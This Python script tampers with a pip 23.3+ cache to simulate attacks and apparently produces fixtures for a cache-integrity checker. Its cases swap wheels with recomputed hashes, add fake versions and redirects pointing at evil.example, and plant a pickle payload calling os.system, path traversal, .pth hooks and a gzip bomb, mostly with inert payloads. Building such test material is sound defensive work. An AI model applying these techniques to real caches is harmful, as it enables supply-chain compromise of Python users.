"""Poisons a cache of pip 23.3 or later as an attacker would.

    poison.py CASE CACHE

Each case is one way to make pip install something else, or the trace of one.
"""

import base64
import gzip
import hashlib
import io
import json
import os
import struct
import sys
import tarfile
import zipfile


class Cache:
    def __init__(self, root):
        self.root = root

    def path(self, url):
        key = hashlib.sha224(url.encode()).hexdigest()
        return os.path.join(self.root, "http-v2", *key[:5], key)

    def entries(self):
        for folder, _, names in os.walk(os.path.join(self.root, "http-v2")):
            for name in names:
                if not name.endswith(".body"):
                    yield os.path.join(folder, name)

    def page(self, name):
        return self.path(f"https://pypi.example/simple/{name}/")

    def read_page(self, name):
        with open(self.page(name) + ".body", "rb") as file:
            body = file.read()
        return json.loads(gzip.decompress(body) if body[:2] == b"\x1f\x8b" else body)

    def write_page(self, name, page):
        body = gzip.compress(json.dumps(page).encode())
        self.write(self.page(name) + ".body", body)
        self.headers(self.page(name), {"Content-Length": str(len(body))})

    def write(self, path, data):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file:
            file.write(data)

    def headers(self, path, changes, **response):
        entry = Entry(path)
        for name, value in changes.items():
            entry.headers.pop(name, None)
            if value is not None:
                entry.headers[name] = value
        entry.response.update(response)
        entry.save(self)

    def plant(self, url, body, headers, status=200):
        path = self.path(url)
        entry = Entry(None)
        entry.headers.update({"Content-Length": str(len(body)), **headers})
        entry.response["status"] = status
        entry.path = path
        entry.save(self)
        self.write(path + ".body", body)

    def built(self):
        for folder, _, names in os.walk(os.path.join(self.root, "wheels")):
            for name in names:
                if name.endswith(".whl"):
                    return os.path.join(folder, name)
        raise SystemExit("no built wheel")

    def file(self, page, version):
        for entry in self.read_page(page)["files"]:
            if f"-{version}-" in entry["filename"] or f"-{version}.tar" in entry["filename"]:
                return entry
        raise SystemExit("no such file")


def pack(value):
    if value is None:
        return b"\xc0"
    if isinstance(value, bool):
        return b"\xc3" if value else b"\xc2"
    if isinstance(value, int):
        return bytes([value]) if value < 128 else b"\xcd" + struct.pack(">H", value)
    if isinstance(value, str):
        data = value.encode()
        return b"\xdb" + struct.pack(">I", len(data)) + data
    if isinstance(value, bytes):
        return b"\xc6" + struct.pack(">I", len(value)) + value
    return b"\xdf" + struct.pack(">I", len(value)) + b"".join(pack(k) + pack(v) for k, v in value.items())


def unpack(data, at=0):
    head = data[at]
    at += 1
    if head < 0x80:
        return head, at
    if head < 0x90:
        return mapping(data, at, head & 15)
    if 0xA0 <= head < 0xC0:
        return data[at:at + (head & 31)].decode(), at + (head & 31)
    if head == 0xC0:
        return None, at
    if head in (0xC2, 0xC3):
        return head == 0xC3, at
    width = {0xC4: 1, 0xC5: 2, 0xC6: 4, 0xCC: 1, 0xCD: 2, 0xD9: 1, 0xDA: 2, 0xDB: 4, 0xDE: 2, 0xDF: 4}[head]
    number = int.from_bytes(data[at:at + width], "big")
    at += width
    if head in (0xCC, 0xCD):
        return number, at
    if head in (0xDE, 0xDF):
        return mapping(data, at, number)
    piece = data[at:at + number]
    return (piece if head < 0xC7 else piece.decode()), at + number


def mapping(data, at, count):
    result = {}
    for _ in range(count):
        key, at = unpack(data, at)
        result[key], at = unpack(data, at)
    return result, at


class Entry:
    def __init__(self, path):
        self.path = path
        if path is None:
            self.document = {"response": {"body": b"", "headers": {"Date": "Sat, 21 Nov 2026 07:00:00 GMT", "ETag": '"x"'},
                                          "status": 200, "version": 11, "reason": "OK", "decode_content": False},
                             "vary": {}}
        else:
            with open(path, "rb") as file:
                self.document, _ = unpack(file.read()[5:])
        self.response = self.document["response"]
        self.headers = self.response["headers"]

    def save(self, cache):
        cache.write(self.path, b"cc=4," + pack(self.document))


def digest_line(name, content):
    value = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b"=").decode()
    return f"{name},sha256={value},{len(content)}\n"


def rewrite(data, changes, fix_record):
    """The wheel with other or further files."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        content = {item.filename: archive.read(item) for item in archive.infolist()}
    content.update(changes)
    record = next(name for name in content if name.endswith(".dist-info/RECORD"))
    if fix_record:
        lines = [digest_line(name, text) for name, text in content.items() if name != record]
        content[record] = ("".join(lines) + record + ",,\n").encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in content.items():
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 2, 3, 4, 6)), text)
    return out.getvalue()


def change_built(cache, changes, fix_record, keep_time=True):
    path = cache.built()
    status = os.stat(path)
    with open(path, "rb") as file:
        data = rewrite(file.read(), changes, fix_record)
    cache.write(path, data)
    if keep_time:
        os.utime(path, ns=(status.st_atime_ns, status.st_mtime_ns))


EVIL = b"import os\n"


def evil_wheel(cache, version="1.1"):
    url = cache.file("alpha", version)["url"]
    with open(cache.path(url) + ".body", "rb") as file:
        return rewrite(file.read(), {"alpha/__init__.py": EVIL}, True)


def p1(cache):
    change_built(cache, {"beta/__init__.py": EVIL}, False)


def p1_time(cache):
    path = cache.built()
    status = os.stat(path)
    os.utime(path, ns=(status.st_atime_ns, status.st_mtime_ns + 10 * 60 * 10**9))


def p1_added(cache):
    change_built(cache, {"evil.pth": b"import os\n"}, False)


def p2(cache):
    change_built(cache, {"beta/__init__.py": EVIL}, True)


def p2_added(cache):
    change_built(cache, {"beta/hidden.py": EVIL}, True)


def info(name):
    return "beta-0.3.dist-info/" + name


def p2_command(cache):
    change_built(cache, {"beta-0.3.data/scripts/pip": b"#!python\n" + EVIL}, True)


def p2_entry(cache):
    text = b"[console_scripts]\npip = beta.more:main\n"
    change_built(cache, {info("entry_points.txt"): text}, True)


def p2_requires(cache):
    with zipfile.ZipFile(cache.built()) as archive:
        text = archive.read(info("METADATA"))
    change_built(cache, {info("METADATA"): b"Requires-Dist: evil>=1\n" + text}, True)


def p2_over(cache):
    change_built(cache, {"beta-0.3.data/purelib/beta/more.py": EVIL}, True)


def p2_module(cache):
    change_built(cache, {"beta/more/__init__.py": EVIL}, True)


def p2_tag(cache):
    """Says that it is for one platform."""
    with zipfile.ZipFile(cache.built()) as archive:
        text = archive.read(info("WHEEL"))
    changes = {"beta/__init__.py": EVIL, info("WHEEL"): text.replace(b"py3-none-any", PLATFORM)}
    change_built(cache, changes, True)


def p2_tagged(cache):
    """The same, and the file's name says so, too."""
    p2_tag(cache)
    name_for_platform(cache)


def p2_data(cache):
    change_built(cache, {"beta-0.3.data/data/pip.conf": b"[global]\nindex-url = https://evil.example/\n"}, True)


def p2_header(cache):
    change_built(cache, {"beta-0.3.data/headers/beta.h": b"#define X\n"}, True)


def p2_dot(cache):
    change_built(cache, {"./beta/__init__.py": EVIL}, True)


def p2_slashes(cache):
    change_built(cache, {"beta//more.py": EVIL}, True)


PLATFORM = b"cp311-cp311-linux_x86_64"


def name_for_platform(cache):
    path = cache.built()
    os.rename(path, path.replace("py3-none-any", PLATFORM.decode()))


def add_to_source(cache, files):
    """What the wheel was built from, with more files; it is not what the page says any more."""
    path = cache.path(cache.file("beta", "0.3")["url"])
    with open(path + ".body", "rb") as file:
        members = tarfile.open(fileobj=io.BytesIO(file.read()))
        content = {item.name: members.extractfile(item).read() for item in members if item.isfile()}
    top = next(iter(content)).split("/")[0]
    content.update({f"{top}/{name}": text for name, text in files.items()})
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, text in content.items():
            item = tarfile.TarInfo(name)
            item.size = len(text)
            archive.addfile(item, io.BytesIO(text))
    cache.write(path + ".body", out.getvalue())
    cache.headers(path, {"Content-Length": str(len(out.getvalue()))})


def built_script(cache, body=b"import sys\r\nprint(1)\r\n", line=b"#!python -E\n"):
    """No poison but for the source archive: an honest build."""
    add_to_source(cache, {"bin/beta-tool": b"#!/usr/bin/env python3 -E\r\n" + body})
    change_built(cache, {"beta-0.3.data/scripts/beta-tool": line + body.replace(b"\r", b"")}, True)


def built_script_changed(cache):
    built_script(cache)
    change_built(cache, {"beta-0.3.data/scripts/beta-tool": b"#!python -E\nimport os\n"}, True)


def built_script_line(cache):
    built_script(cache, line=b"#!/tmp/evil\n")


def built_data(cache):
    add_to_source(cache, {"beta/table.txt": b"1\n", "etc/beta.conf": b"x\n"})
    change_built(cache, {"beta/table.txt": b"1\n", "beta-0.3.data/data/etc/beta.conf": b"x\n"}, True)


def built_data_changed(cache):
    built_data(cache)
    change_built(cache, {"beta/table.txt": b"2\n"}, True)


def compiled(cache, changes={}):
    """An honest build for one platform."""
    add_to_source(cache, {"beta/fast.c": b"int x;\n", "beta/table.txt": b"1\n"})
    with zipfile.ZipFile(cache.built()) as archive:
        text = archive.read(info("WHEEL"))
    elf = b"\x7fELF\x02\x01\x01"
    change_built(cache, {
        info("WHEEL"): text.replace(b"py3-none-any", PLATFORM), "beta/fast.cpython-311-x86_64-linux-gnu.so": elf,
        "beta/config.py": b"built = 1\n", "beta-0.3.data/scripts/beta-fast": elf, "beta/table.txt": b"1\n",
        "beta-0.3.data/data/lib/libbeta.so": elf, **changes}, True)
    name_for_platform(cache)


def compiled_changed(cache):
    compiled(cache, {"beta/__init__.py": EVIL})


def compiled_data(cache):
    compiled(cache, {"beta/table.txt": b"2\n"})


def compiled_conf(cache):
    compiled(cache, {"beta-0.3.data/data/pyvenv.cfg": b"\x7fELF\nhome = /tmp\n"})


def compiled_module(cache):
    compiled(cache, {"requests/__init__.py": EVIL})


def p2_hook(cache):
    change_built(cache, {"sitecustomize.py": EVIL}, True)


def rebuilt(cache):
    """No poison: what another build makes of the same sources, the same code in other bytes."""
    change_built(cache, {}, True)


def without_sources(cache):
    """As a cache that was made smaller: what wheels were built from is gone."""
    path = cache.path(cache.file("beta", "0.3")["url"])
    os.remove(path)
    os.remove(path + ".body")


def p3(cache):
    entry = cache.file("alpha", "1.1")
    document = {"interpreter_name": "cp", "interpreter_version": "311", "sha256": entry["hashes"]["sha256"],
                "url": entry["url"]}
    key = hashlib.sha224(json.dumps(document, sort_keys=True, separators=(",", ":")).encode()).hexdigest()
    folder = os.path.join(cache.root, "wheels", key[:2], key[2:4], key[4:6], key[6:])
    cache.write(os.path.join(folder, entry["filename"]), evil_wheel(cache))
    return folder, entry


def p3_origin(cache):
    folder, entry = p3(cache)
    origin = {"archive_info": {"hashes": entry["hashes"]}, "url": entry["url"]}
    cache.write(os.path.join(folder, "origin.json"), json.dumps(origin).encode())


def p4(cache):
    url = cache.file("alpha", "1.1")["url"]
    body = evil_wheel(cache)
    cache.write(cache.path(url) + ".body", body)
    cache.headers(cache.path(url), {"Content-Length": str(len(body))})


def hidden(cache, change):
    """A wheel that is another one, in a cache without the page that says what it is."""
    url = cache.file("alpha", "1.1")["url"]
    with open(cache.path(url) + ".body", "rb") as file:
        body = change(evil_wheel(cache), file.read())
    cache.write(cache.path(url) + ".body", body)
    cache.headers(cache.path(url), {"Content-Length": str(len(body))})
    for ending in ("", ".body"):
        os.remove(cache.page("alpha") + ending)
    return cache.path(url)


def p4_prefix(cache):
    hidden(cache, lambda evil, _: b"#" * 1000 + evil)


def p4_typed(cache):
    path = hidden(cache, lambda evil, _: b"<html>" * 100 + evil)
    cache.headers(path, {"Content-Type": "text/html"})


def p4_packed(cache):
    def packed(evil, _):
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(evil)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as new:
            for item in old.infolist():
                new.writestr(zipfile.ZipInfo(item.filename, item.date_time), old.read(item), zipfile.ZIP_BZIP2)
        return out.getvalue()

    hidden(cache, packed)


def p4_broken(cache):
    def broken(_, honest):
        with zipfile.ZipFile(io.BytesIO(honest)) as archive:
            item = next(item for item in archive.infolist() if item.filename.endswith("/METADATA"))
        place = item.header_offset + 30 + len(item.filename) + 8
        return honest[:place] + bytes([honest[place] ^ 0xFF]) + honest[place + 1:]

    hidden(cache, broken)


def p6_bare(cache):
    page = cache.read_page("alpha")
    for file in page["files"]:
        file["hashes"] = {}
    cache.write_page("alpha", page)


def p4_length(cache):
    url = cache.file("beta", "0.3")["url"]
    with open(cache.path(url) + ".body", "ab") as file:
        file.write(b"\0" * 10)


def fake(cache, host="files.pypi.example", listed=False):
    page = cache.read_page("alpha")
    body = evil_wheel(cache).replace(b"alpha-1.1", b"alpha-9.9")
    with zipfile.ZipFile(io.BytesIO(evil_wheel(cache))) as archive:
        files = {item.filename.replace("1.1", "9.9"): archive.read(item).replace(b"Version: 1.1", b"Version: 9.9")
                 for item in archive.infolist()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in files.items():
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 2, 3, 4, 6)), text)
    body = rewrite(out.getvalue(), {}, True)
    digest = hashlib.blake2b(body, digest_size=32).hexdigest()
    name = "alpha-9.9-py2.py3-none-any.whl"
    url = f"https://{host}/packages/{digest[:2]}/{digest[2:4]}/{digest[4:]}/{name}"
    page["files"].append({"filename": name, "hashes": {"sha256": hashlib.sha256(body).hexdigest()}, "url": url,
                          "size": len(body), "requires-python": None, "yanked": False, "core-metadata": False})
    if listed:
        page["versions"].append("9.9")
    cache.write_page("alpha", page)
    cache.plant(url, body, {"Content-Type": "application/octet-stream", "Cache-Control": "max-age=365000000"})


def p5(cache):
    fake(cache)


def p5_host(cache):
    fake(cache, host="files.evil.example", listed=True)


def p5_serial(cache):
    page = cache.read_page("alpha")
    page["meta"]["_last-serial"] = 7654321
    cache.write_page("alpha", page)


def p5_renamed(cache):
    page = cache.read_page("gamma-tools")
    page["files"][0]["url"] = cache.file("alpha", "1.1")["url"]
    cache.write_page("gamma-tools", page)


def p6(cache):
    page = cache.read_page("alpha")
    body = evil_wheel(cache)
    for entry in page["files"]:
        if "1.1" in entry["filename"]:
            entry["hashes"] = {"sha256": hashlib.sha256(body).hexdigest()}
            entry["size"] = len(body)
            cache.write(cache.path(entry["url"]) + ".body", body)
            cache.headers(cache.path(entry["url"]), {"Content-Length": str(len(body))})
    cache.write_page("alpha", page)


def p7_age(cache):
    cache.headers(cache.page("alpha"), {"Cache-Control": "max-age=365000000"})


def p7_date(cache):
    cache.headers(cache.page("alpha"), {"Date": "Fri, 01 Jan 2099 00:00:00 GMT"})


def old_path(cache, url):
    key = hashlib.sha224(url.encode()).hexdigest()
    return os.path.join(cache.root, "http", *key[:5], key)


def p8(cache):
    cache.write(old_path(cache, "https://pypi.org/simple/alpha/"), b"cc=1,cos\nsystem\n(S'true'\ntR.")


def p9(cache):
    entry = Entry(cache.page("alpha"))
    entry.headers.clear()
    entry.headers["Location"] = "https://evil.example/simple/alpha/"
    entry.response["status"] = 301
    entry.save(cache)
    cache.write(cache.page("alpha") + ".body", b"")


def p9_dated(cache):
    url = cache.file("alpha", "1.1")["url"]
    cache.headers(cache.path(url), {"Location": "https://evil.example/alpha.whl", "Content-Length": "0"}, status=308)
    cache.write(cache.path(url) + ".body", b"")


def p10(cache):
    url = cache.file("alpha", "1.1")["url"] + ".metadata"
    path = cache.path(url) + ".body"
    with open(path, "rb") as file:
        body = file.read() + b"Requires-Dist: evil\n"
    cache.write(path, body)
    cache.headers(cache.path(url), {"Content-Length": str(len(body))})
    page = cache.read_page("alpha")
    for entry in page["files"]:
        if "1.1" in entry["filename"]:
            entry["core-metadata"] = {"sha256": hashlib.sha256(body).hexdigest()}
    cache.write_page("alpha", page)


def p11(cache, version="999!1"):
    prefix = "/usr"
    key = hashlib.sha224(prefix.encode()).hexdigest()
    note = {"key": prefix, "last_check": "2026-11-21T07:00:00+00:00", "pypi_version": version}
    cache.write(os.path.join(cache.root, "selfcheck", key), json.dumps(note).encode())


def p11_place(cache):
    p11(cache, "23.2.1")
    folder = os.path.join(cache.root, "selfcheck")
    os.rename(os.path.join(folder, os.listdir(folder)[0]), os.path.join(folder, "0" * 56))


def selfcheck_fine(cache):
    p11(cache, "23.2.1")


def p12(cache):
    path = os.path.join(os.path.dirname(cache.built()), "origin.json")
    with open(path) as file:
        origin = json.load(file)
    digest = hashlib.sha256(b"what the lockfile of the victim says").hexdigest()
    origin["archive_info"] = {"hash": "sha256=" + digest, "hashes": {"sha256": digest}}
    origin["url"] = origin["url"].replace("beta-0.3", "beta-0.4")
    cache.write(path, json.dumps(origin).encode())


def p12_digest(cache):
    path = os.path.join(os.path.dirname(cache.built()), "origin.json")
    with open(path) as file:
        origin = json.load(file)
    digest = hashlib.sha256(b"what the lockfile of the victim says").hexdigest()
    origin["archive_info"] = {"hash": "sha256=" + digest, "hashes": {"sha256": digest}}
    cache.write(path, json.dumps(origin).encode())


def origin_broken(cache):
    cache.write(os.path.join(os.path.dirname(cache.built()), "origin.json"), b"{")


def second_wheel(cache):
    path = cache.built()
    with open(path, "rb") as file:
        cache.write(path.replace("beta-0.3", "Beta-0.3"), file.read())


def traversal(cache):
    change_built(cache, {"../../evil.py": EVIL}, True)


def two_infos(cache):
    change_built(cache, {"alpha-9.9.dist-info/METADATA": b"Name: alpha\nVersion: 9.9\n"}, True)


def other_name(cache):
    path = cache.built()
    os.rename(path, path.replace("beta-0.3", "alpha-1.0"))


def foreign(cache):
    cache.write(os.path.join(cache.root, "http-v2", "0", "run.sh"), b"#!/bin/sh\n")


def wrong_folder(cache):
    path = cache.page("alpha")
    target = os.path.join(cache.root, "http-v2", "0", "0", "0", "0", "0", os.path.basename(path))
    with open(path, "rb") as file:
        cache.write(target, file.read())


def orphan(cache):
    os.remove(cache.page("alpha"))


def second_body(cache):
    path = cache.page("alpha")
    cache.headers(path, {}, body=b"another")


def secret_vary(cache):
    entry = Entry(cache.page("alpha"))
    entry.document["vary"] = {"Authorization": "Basic dXNlcjpodW50ZXIy"}
    entry.save(cache)


def secret_cookie(cache):
    cache.headers(cache.page("alpha"), {"Set-Cookie": "session=hunter2"})


def secret_link(cache):
    page = cache.read_page("alpha")
    page["files"][0]["url"] += "?X-Amz-Signature=hunter2"
    cache.write_page("alpha", page)


def secret_origin(cache):
    path = os.path.join(os.path.dirname(cache.built()), "origin.json")
    with open(path) as file:
        origin = json.load(file)
    origin["url"] = origin["url"].replace("https://", "https://user:hunter2@")
    cache.write(path, json.dumps(origin).encode())


NAMESPACE = (
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *"
    "%r);importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs "
    "and sys.modules.setdefault('zope.a', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec("
    "'zope.a', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope.a', types.ModuleType('zope.a'));mp = (m or "
    "[]) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)%s\n")
SETUPTOOLS = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    "enabled and __import__('_distutils_hack').add_shim(); \n")


def hook(cache, text):
    """An honest release with such a file: its page knows it."""
    page = cache.read_page("alpha")
    with open(cache.path(cache.file("alpha", "1.1")["url"]) + ".body", "rb") as file:
        body = rewrite(file.read(), {"alpha.pth": text.encode()}, True)
    digest = hashlib.blake2b(body, digest_size=32).hexdigest()
    for entry in page["files"]:
        if "1.1" in entry["filename"]:
            entry["url"] = (f"https://files.pypi.example/packages/{digest[:2]}/{digest[2:4]}/{digest[4:]}/"
                            + entry["filename"])
            entry["hashes"] = {"sha256": hashlib.sha256(body).hexdigest()}
            entry["size"] = len(body)
            cache.plant(entry["url"], body, {"Cache-Control": "max-age=365000000"})
    cache.write_page("alpha", page)


def hook_usual(cache):
    lines = NAMESPACE % (("zope",), "") + NAMESPACE % (
        ("zope", "a"), ";m and setattr(sys.modules['zope'], 'a', m)") + SETUPTOOLS + "../folder\n"
    hook(cache, lines)


def hook_odd(cache):
    hook(cache, (NAMESPACE % (("zope",), "")).replace("'importlib.util'", "'evil.util'"))


def bomb(cache):
    url = cache.file("beta", "0.3")["url"]
    cache.write(cache.path(url) + ".body", gzip.compress(b"\0" * (200 << 20), 9))


def broken(cache):
    for path in list(cache.entries()):
        with open(path, "r+b") as file:
            file.truncate(40)


def hide(path, hidden):
    """Puts a link in the place of something, which lies elsewhere from then on."""
    os.makedirs(os.path.dirname(hidden), exist_ok=True)
    os.rename(path, hidden)
    os.symlink(os.path.relpath(hidden, os.path.dirname(path)), path)


def link_wheel(cache):
    p1(cache)
    hide(cache.built(), cache.root + "/x/blob")


def link_wheels(cache):
    p1(cache)
    hide(cache.root + "/wheels", cache.root + "/x/w")


def link_body(cache):
    path = cache.path(cache.file("beta", "0.3")["url"]) + ".body"
    hide(path, cache.root + "/x/blob")


def link_http(cache):
    hide(cache.root + "/http-v2", cache.root + "/x/h")


def folder_for_body(cache):
    path = cache.path(cache.file("beta", "0.3")["url"]) + ".body"
    os.remove(path)
    cache.write(path + "/x", b"evil")


def main():
    case, root = sys.argv[1:3]
    globals()[case](Cache(root))


main()
